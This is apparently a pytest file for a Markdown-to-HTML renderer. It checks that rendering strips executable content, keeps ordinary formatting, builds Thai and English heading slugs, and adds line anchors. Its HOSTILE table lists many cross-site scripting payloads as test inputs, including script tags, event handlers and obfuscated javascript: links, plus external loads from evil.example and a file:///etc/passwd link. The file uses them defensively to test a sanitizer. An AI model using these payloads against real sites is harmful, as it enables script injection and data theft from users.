"""Markdown to HTML: what authors write comes out, and nothing that a browser would run."""

from __future__ import annotations

import re
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest

from kb.errors import Lang
from kb.render import ATTRIBUTES, TAGS, render, slug

KNOWN_ATTRIBUTES = {name for names in ATTRIBUTES.values() for name in names} | {"class", "rel", "align"}


class Inspector(HTMLParser):
    """Collects what a browser would act upon; text is harmless."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.faults: list[str] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS:
            self.faults.append(f"<{tag}>")
        for name, value in attrs:
            if name not in KNOWN_ATTRIBUTES:
                self.faults.append(f"{tag} {name}")
            if name in ("href", "src"):
                self._check_address(tag, value or "")

    def _check_address(self, tag: str, value: str) -> None:
        # As browsers read it: outer spaces and control characters go, and tabs and line ends everywhere.
        address = re.sub(r"[\t\r\n]", "", value.strip("".join(map(chr, range(33))))).replace("\\", "/")
        schemes = ("",) if tag == "img" else ("", "http", "https", "mailto")
        if urlsplit(address).scheme not in schemes or (tag == "img" and address.startswith("//")):
            self.faults.append(f"{tag} leads to {value}")

    def handle_comment(self, data: str) -> None:
        self.faults.append(f"comment {data}")

    def handle_decl(self, decl: str) -> None:
        self.faults.append(f"declaration {decl}")


HOSTILE = {
    "script": "<script>alert(1)</script>",
    "script in a paragraph": "text <script src=//evil.example/x.js></script> text",
    "script over lines": "<script\n>alert(1)\n</script\n>",
    "script in a heading": "## Title <script>alert(1)</script>",
    "script in a list": "- one\n- <script>alert(1)</script>",
    "script in a table": "| a |\n|---|\n| <script>alert(1)</script> |",
    "script in a footnote": "text[^1]\n\n[^1]: <script>alert(1)</script>",
    "script in code": "`<script>alert(1)</script>`",
    "script in a code block": "    <script>alert(1)</script>",
    "script in a link text": "[<script>alert(1)</script>](https://example.org)",
    "script in a turn": "**<script>alert(1)</script>:** hello",
    "img onerror": "<img src=x onerror=alert(1)>",
    "svg onload": "<svg onload=alert(1)>",
    "svg script": "<svg><script>alert(1)</script></svg>",
    "math": "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "iframe": '<iframe src="javascript:alert(1)"></iframe>',
    "object": '<object data="data:text/html,<script>alert(1)</script>"></object>',
    "form": '<form action="https://evil.example"><input name=q></form>',
    "style": "<style>body{background:url(//evil.example)}</style>",
    "style attribute": '<p style="background:url(//evil.example)">x</p>',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "base": '<base href="https://evil.example/">',
    "comment": "<!-- <script>alert(1)</script> -->",
    "javascript link": "[x](javascript:alert(1))",
    "javascript link in capitals": "[x](JaVaScRiPt:alert(1))",
    "javascript link with a tab": "[x](java\tscript:alert(1))",
    "javascript link with an entity for a tab": "[x](java&#9;script:alert(1))",
    "javascript link with an entity": "[x](javascript&#58;alert(1))",
    "javascript link with a control character": "[x](<\x01javascript:alert(1)>)",
    "javascript reference": "[x][1]\n\n[1]: javascript:alert(1)",
    "javascript autolink": "<javascript:alert(1)>",
    "vbscript link": "[x](vbscript:msgbox(1))",
    "data link": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "file link": "[x](file:///etc/passwd)",
    "data image": "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "javascript image": "![x](javascript:alert(1))",
    "foreign image": "![x](https://evil.example/track.png)",
    "foreign image without a scheme": "![x](//evil.example/track.png)",
    "foreign image with backslashes": "![x](/\\evil.example/track.png)",
    "foreign image with a tab": "![x](/\t/evil.example/track.png)",
    "quote breaks out of a link": '[x](https://example.org/"onmouseover="alert(1))',
    "quote breaks out of a title": "[x](https://example.org 'a\" onmouseover=\"alert(1)')",
    "quote breaks out of alt": '![x" onerror="alert(1)](a.png)',
    "heading id": '## "><script>alert(1)</script>',
    "private-use marks": "\ue0001\ue001<script>alert(1)</script> [x](\ue0009\ue001javascript:alert(1))",
    "placeholder of the parser": "\x02wzxhzdk:0\x03 <b onclick=alert(1)>x</b>",
    "unclosed": "<a href='x' onclick='alert(1)",
}


@pytest.mark.parametrize("source", HOSTILE.values(), ids=HOSTILE.keys())
def test_nothing_that_runs(source: str) -> None:
    assert Inspector(render(source, "en")).faults == []


def test_the_inspector_sees_faults() -> None:
    bad = '<script></script><p onclick="x">y</p><a href="java&#9;script:x">z</a><img src="//a/b"><!--c-->'
    assert len(Inspector(bad).faults) == 5


def test_raw_html_is_shown_as_text() -> None:
    assert "&lt;b onclick=x&gt;น้ำ&lt;/b&gt;" in render("<b onclick=x>น้ำ</b>", "th")


KEPT = {
    "heading": ("## ผลที่ได้", '<h2 id="ผลที่ได้">'),
    "link": ("[x](https://example.org/a?b=1)", '<a href="https://example.org/a?b=1" rel="noopener nofollow">x</a>'),
    "mail": ("[x](mailto:a@example.org)", 'href="mailto:a@example.org"'),
    "relative link": ("[x](../a.md)", 'href="../a.md"'),
    "relative image": ("![แผนที่](map.png)", '<img alt="แผนที่" src="map.png">'),
    "table with alignment": ("| a | b |\n|---|--:|\n| 1 | 2 |", '<td align="right">2</td>'),
    "footnote": ("x[^1]\n\n[^1]: note", '<li id="fn:1">'),
    "bold": ("**สำคัญ**", "<strong>สำคัญ</strong>"),
    "list": ("- a\n- b", "<li>"),
    "quotation": ("> a", "<blockquote>"),
}


@pytest.mark.parametrize(("source", "expected"), KEPT.values(), ids=KEPT.keys())
def test_what_authors_write_comes_out(source: str, expected: str) -> None:
    assert expected in render(source, "en")


@pytest.mark.parametrize(("lang", "title"), [("en", "Back to note 1 in the text"), ("th", "กลับไปยังเชิงอรรถ 1 ในเนื้อหา")])
def test_the_way_back_from_a_footnote_is_named_in_the_language(lang: Lang, title: str) -> None:
    assert f'title="{title}"' in render("x[^1]\n\n[^1]: note", lang)


SLUGS = {
    "thai keeps vowels and tone marks": ("น้ำเสีย และ ขยะ", "น้ำเสีย-และ-ขยะ"),
    "english": ("What is not known?", "what-is-not-known"),
    "mixed": ("PM2.5 ในเมือง", "pm2-5-ในเมือง"),
    "nothing left": ("!!!", "section"),
}


@pytest.mark.parametrize(("heading", "expected"), SLUGS.values(), ids=SLUGS.keys())
def test_slug(heading: str, expected: str) -> None:
    assert slug(heading) == expected


def test_equal_headings_get_different_ids() -> None:
    html = render("## ผล\n\na\n\n## ผล\n\nb", "th")
    assert 'id="ผล"' in html
    assert 'id="ผล_1"' in html


ANCHORED = {
    "paragraph": ("text", 1),
    "second paragraph": ("a\n\nb", 3),
    "line of a paragraph": ("a\nb", 2),
    "heading": ("a\n\n## b", 3),
    "heading with underline": ("a\n\nb\n---", 3),
    "list item": ("- a\n- b", 2),
    "numbered item": ("1. a\n2. b", 2),
    "quotation": ("> a\n> b", 2),
    "table row": ("| a |\n|---|\n| b |", 3),
    "turn": ("**A:** x\n\n**B:** y", 3),
}


@pytest.mark.parametrize(("source", "line"), ANCHORED.values(), ids=ANCHORED.keys())
def test_every_line_of_text_can_be_linked_to(source: str, line: int) -> None:
    assert f'<span id="L{line + 20}"></span>' in render(source, "en", first_line=21)


UNTOUCHED = {
    "definition of a link": "[x][1]\n\n[1]: https://example.org",
    "code block": "a\n\n    code",
    "rule": "a\n\n---\n\nb",
    "title over two lines": '[x](https://example.org "one\ntwo")',
}


@pytest.mark.parametrize("source", UNTOUCHED.values(), ids=UNTOUCHED.keys())
def test_line_marks_leave_the_markdown_alone(source: str) -> None:
    html = render(source, "en")
    assert not {"\ue000", "\ue001"} & set(html)
    assert ("example.org" in source) == ('href="https://example.org"' in html)
    assert ("---" in source) == ("<hr>" in html)
    assert ("    code" in source) == ("<pre><code>code" in html)


def test_turns_read_as_a_conversation() -> None:
    html = render("Before.\n\n**อนงค์ ใจดี:** first\n\nmore\n\n**Ben Lim**: second\n\n## Next\n\nAfter **bold:** text", "en")
    assert html.count('class="turn"') == 2
    assert html.count('class="turn-more"') == 1
    assert '<strong class="speaker">อนงค์ ใจดี:</strong> first' in html
    assert '<p><span id="L11"></span>After <strong>bold:</strong> text</p>' in html
